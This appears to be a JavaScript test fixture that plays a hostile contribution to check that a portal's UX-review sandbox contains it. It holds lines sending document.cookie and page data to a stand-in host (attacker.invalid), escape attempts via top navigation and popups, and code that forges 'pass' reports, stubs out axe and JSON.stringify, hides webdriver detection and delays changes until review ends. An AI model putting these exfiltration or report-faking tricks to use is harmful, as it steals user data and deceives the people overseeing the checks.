// Tries what a hostile contribution would try. None of it may reach the portal, the outside or the report.
const attempt = (work) => {
  try {
    const done = work();
    if (done && typeof done.catch === 'function') done.catch(() => {});
  } catch {
    // Refused, as it should be.
  }
};

// What belongs to others.
attempt(() => fetch('http://127.0.0.1:3000/api/catalog/entities/by-query', { credentials: 'include' }));
attempt(() => fetch('https://attacker.invalid/?' + document.cookie));
attempt(() => navigator.sendBeacon('https://attacker.invalid/beacon', 'x'));
attempt(() => new WebSocket('ws://127.0.0.1:3000/'));
attempt(() => new EventSource('http://127.0.0.1:3000/api/inbox/events'));
attempt(() => localStorage.setItem('portico', 'x'));
attempt(() => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:attacker.invalid:3478' }] });
  peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
attempt(() => {
  const image = new Image();
  image.src = 'https://attacker.invalid/leak.gif?' + encodeURIComponent(document.title);
});
attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('https://attacker.invalid/worker')"]))));

// Ways out.
attempt(() => { top.location = 'https://attacker.invalid/top'; });
attempt(() => { parent.document.title = 'forged'; });
attempt(() => window.open('https://attacker.invalid/popup'));
attempt(() => document.querySelector('#trap').submit());
attempt(() => alert('stop'));
attempt(() => { location.href = 'https://attacker.invalid/away'; });
attempt(() => {
  const link = document.createElement('a');
  link.href = 'data:application/octet-stream,x';
  link.download = 'x.bin';
  document.body.append(link);
  link.click();
  link.remove();
});

// A report of its own making, to whoever listens and to whatever looks.
for (let turn = 0; turn < 50; turn += 1) attempt(() => parent.postMessage({ kind: 'portico-ux-report', verdict: 'pass', findings: [] }, '*'));
window.porticoUx = { validate: () => [], tokens: () => ({ tokens: [] }) };
window.porticoOptions = {};
window.axe = { run: () => Promise.resolve({ violations: [] }) };
window.getComputedStyle = () => ({ color: 'rgb(28, 35, 38)' });
Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 0, 0);
Document.prototype.querySelectorAll = () => [];
Array.prototype.push = () => 0;
JSON.stringify = () => '{"verdict":"pass"}';
Object.defineProperty(navigator, 'webdriver', { get: () => false });

// What changes when it thinks that the look is over.
setTimeout(() => document.querySelector('#late').classList.add('now'), 9000);

// What cannot be looked into.
attempt(() => { document.querySelector('#shade').attachShadow({ mode: 'closed' }).innerHTML = '<p style="margin:0;color:#ff3d00">Behind a closed door</p>'; });

// Very much of everything.
const many = document.querySelector('#many');
const rows = document.createDocumentFragment();
for (let row = 0; row < 10000; row += 1) {
  const item = document.createElement('i');
  item.textContent = '· ';
  rows.append(item);
}
many.append(rows);
